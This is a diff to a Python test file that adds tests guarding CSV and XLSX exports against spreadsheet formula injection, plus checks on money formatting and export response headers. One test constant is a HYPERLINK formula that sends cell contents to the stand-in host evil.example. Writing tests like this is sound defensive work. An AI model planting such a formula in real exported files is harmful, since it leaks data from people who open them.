@@ -5,9 +5,12 @@ import io
 from datetime import date
 from decimal import Decimal
 
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from app.exports import Column, to_csv, to_xlsx
+from app.exports import Column, export_response, to_csv, to_xlsx
 
 COLUMNS = [Column("Kommune"), Column("Obergrenze", "money"), Column("Stichtag", "date"), Column("Anzahl", "int")]
 ROWS = [["Köln", 252929602, date(2020, 7, 1), 3], ["Kreis Kleve; Test", 1, None, 0]]
@@ -44,3 +47,40 @@ def test_xlsx_times_are_berlin_wall_time_like_the_screen_and_the_csv():
     values = list(load_workbook(io.BytesIO(to_xlsx(columns, [[summer], [winter]]))).active.iter_rows(values_only=True))
     assert values[1][0] == datetime(2022, 6, 15, 8, 14) and values[2][0] == datetime(2022, 1, 15, 7, 14)
     assert format_datetime(summer) == values[1][0].strftime("%d.%m.%Y %H:%M")
+
+# ------------------------------------------------------------------ formula injection (issue #14, 1)
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"x")'
+TEXT = [Column("Beschreibung")]
+
+
+@given(st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), st.text(max_size=20))
+def test_csv_text_cells_never_start_a_formula(start, rest):
+    text = to_csv(TEXT, [[start + rest]]).decode("utf-8").lstrip("\ufeff")
+    cell = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1][0]
+    assert cell == "'" + start + rest
+
+
+@given(st.text(max_size=20).filter(lambda t: not t.startswith(("=", "+", "-", "@", "\t", "\r"))))
+def test_csv_keeps_harmless_text_as_it_is(text):
+    body = to_csv(TEXT, [[text]]).decode("utf-8").lstrip("\ufeff")
+    assert list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))[1] == [text]
+
+
+def test_csv_money_keeps_its_minus_sign():
+    text = to_csv([Column("Betrag", "money")], [[-12345]]).decode("utf-8")
+    assert text.splitlines()[1] == "-123,45"
+
+
+@pytest.mark.parametrize("value", [FORMULA, "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "Köln"])
+def test_xlsx_text_cells_are_text_not_formulas(value):
+    book = load_workbook(io.BytesIO(to_xlsx(TEXT, [[value]])))
+    cell = book.active["A2"]
+    assert cell.data_type == "s" and cell.value == value.replace("\r", "\n")  # XML stores CR as LF
+    assert cell.quotePrefix
+
+
+def test_page_exports_are_not_cached_and_name_one_charset(app):
+    with app.test_request_context():
+        response = export_response("x", "csv", TEXT, [["a"]])
+    assert response.headers["Cache-Control"] == "no-store"
+    assert response.headers["Content-Type"].count("charset") == 1
